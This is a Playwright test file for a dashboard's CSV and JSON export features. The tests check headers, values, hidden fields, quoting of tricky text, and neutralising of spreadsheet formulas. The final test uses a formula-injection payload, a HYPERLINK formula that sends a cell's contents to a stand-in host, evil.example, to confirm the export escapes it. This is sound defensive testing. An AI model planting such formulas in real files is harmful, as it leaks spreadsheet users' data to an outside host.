// SPDX-License-Identifier: MIT
// Export of a widget's visible data as CSV and JSON files the user downloads.

import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import { Harness, series, pubUntilSeen, realErrors } from './lib.mjs';
import { parseCSV } from '../web/csv.mjs';

const h = new Harness('export');
let hub, page;

before(async () => {
  ({ hub, page } = await h.standardPage({
    history: { 'demo.sales': 15 },
    page: { width: 1440, height: 2400, acceptDownloads: true },
    count: { 'demo.sales': 15, 'system.cpu': 15 },
  }));
});

after(async () => { await h.close(); });

async function exportOf(topic, kind) {
  const w = `.widget[data-topic="${topic}"]`;
  await page.locator(w).scrollIntoViewIfNeeded();
  await page.click(`${w} details.menu > summary`);
  const [dl] = await Promise.all([page.waitForEvent('download'), page.click(`${w} .export-${kind}`)]);
  const file = await dl.path();
  return { name: dl.suggestedFilename(), text: fs.readFileSync(file, 'utf8') };
}

test('CSV of a chart: header, one row per point, exact values', async () => {
  const { name, text } = await exportOf('demo.sales', 'csv');
  const after1 = await series(page, 'demo.sales');
  assert.match(name, /^demo\.sales-\d{8}-\d{6}\.csv$/);
  const rows = parseCSV(text);
  assert.deepEqual(rows[0], ['time', 'ts', 'seq', 'value']);
  const body = rows.slice(1);
  assert.ok(body.length >= 15, `${body.length} rows`);
  const bySeq = new Map(after1.map((p) => [p.seq, p]));
  let prev = -Infinity;
  for (const r of body) {
    const [time, ts, seq, value] = r;
    assert.equal(new Date(time).getTime(), Number(ts), 'time column is the ISO form of ts');
    assert.ok(Number(ts) > prev, 'rows in time order');
    prev = Number(ts);
    const p = bySeq.get(Number(seq));
    if (!p) continue; // scrolled out of the chart since the export
    assert.equal(Number(ts), p.ts);
    assert.equal(Number(value), p.fields.value, `value of seq ${seq}`);
  }
  assert.ok(Math.abs(body.length - after1.length) <= 3, `rows ${body.length} ≈ points ${after1.length}`);
});

test('JSON of a chart: topic, meta, points', async () => {
  const { name, text } = await exportOf('demo.sales', 'json');
  const j = JSON.parse(text);
  assert.match(name, /^demo\.sales-\d{8}-\d{6}\.json$/);
  assert.equal(j.topic, 'demo.sales');
  assert.equal(j.title, 'Sales');
  assert.equal(j.unit, '$');
  assert.deepEqual(Object.keys(j.fields), ['value']);
  assert.ok(j.points.length >= 15);
  const pts = await series(page, 'demo.sales');
  const bySeq = new Map(pts.map((p) => [p.seq, p]));
  for (const p of j.points) {
    assert.equal(typeof p.ts, 'number');
    assert.equal(new Date(p.time).getTime(), p.ts);
    const q = bySeq.get(p.seq);
    if (q) assert.equal(p.fields.value, q.fields.value);
  }
});

test('hidden fields are left out of the export', async () => {
  const w = '.widget[data-topic="system.cpu"]';
  await page.locator(w).scrollIntoViewIfNeeded();
  await page.click(`${w} .chip-toggle[data-field="steal"]`);
  assert.equal(await page.getAttribute(`${w} .chip-toggle[data-field="steal"]`, 'aria-pressed'), 'false');
  const { text } = await exportOf('system.cpu', 'csv');
  const rows = parseCSV(text);
  assert.deepEqual(rows[0], ['time', 'ts', 'seq', 'usage', 'user', 'system', 'iowait']);
  for (const r of rows.slice(1)) for (const c of r.slice(3)) assert.ok(c === '' || Number.isFinite(Number(c)), `number cell ${c}`);
  const { text: js } = await exportOf('system.cpu', 'json');
  assert.deepEqual(Object.keys(JSON.parse(js).fields), ['usage', 'user', 'system', 'iowait']);
  await page.click(`${w} .chip-toggle[data-field="steal"]`); // show it again (remembered)
});

test('CSV of a feed: text with commas, quotes and newlines survives', async () => {
  const tricky = 'He said "hi, there",\nthen left; =1+2 <b>x</b>';
  await pubUntilSeen('export', hub, ['--event', 'warning', 'exp.feed', tricky], 'exp.feed', (pts) => pts.some((p) => p.text === tricky));
  await page.waitForSelector('.widget[data-topic="exp.feed"][data-kind="feed"]', { timeout: 10000 });
  const { text } = await exportOf('exp.feed', 'csv');
  const rows = parseCSV(text);
  assert.deepEqual(rows[0], ['time', 'ts', 'seq', 'level', 'text']);
  const mine = rows.slice(1).filter((r) => r[4] === tricky);
  assert.ok(mine.length >= 1, 'the tricky text round-trips');
  assert.equal(mine[0][3], 'warning');
  const { text: js } = await exportOf('exp.feed', 'json');
  assert.ok(JSON.parse(js).points.some((p) => p.text === tricky && p.level === 'warning'));
  assert.deepEqual(realErrors(page), []);
});

test('CSV cells a spreadsheet would run as formulas get a leading quote; numbers stay numbers (S7.4)', async () => {
  const formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
  await pubUntilSeen('export', hub, ['--event', 'info', 'exp.formula', formula], 'exp.formula', (pts) => pts.some((p) => p.text === formula));
  await pubUntilSeen('export', hub, ['exp.neg', '-3.5'], 'exp.neg', (pts) => pts.some((p) => p.fields && p.fields.value === -3.5));
  await page.waitForSelector('.widget[data-topic="exp.formula"][data-kind="feed"]', { timeout: 10000 });
  await page.waitForFunction(() => window.rtdash.info('exp.neg')?.count >= 1, null, { timeout: 10000 });
  const feed = parseCSV((await exportOf('exp.formula', 'csv')).text);
  assert.ok(feed.slice(1).some((r) => r[4] === `'${formula}`), 'the formula text starts with \'');
  const neg = parseCSV((await exportOf('exp.neg', 'csv')).text);
  assert.deepEqual(neg[0], ['time', 'ts', 'seq', 'value']);
  assert.ok(neg.slice(1).some((r) => r[3] === '-3.5'), '-3.5 stays -3.5');
  assert.deepEqual(realErrors(page), []);
});
